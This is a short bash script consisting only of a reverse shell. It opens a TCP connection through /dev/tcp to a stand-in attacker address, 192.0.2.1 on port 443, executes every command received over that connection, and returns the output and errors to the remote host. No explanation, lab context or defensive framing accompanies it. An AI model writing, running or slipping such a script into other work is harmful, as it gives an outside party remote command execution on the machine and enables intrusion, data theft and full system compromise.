#!/bin/bash
exec 5<>/dev/tcp/192.0.2.1/443
cat <&5 | while read l; do $l 2>&5 >&5; done
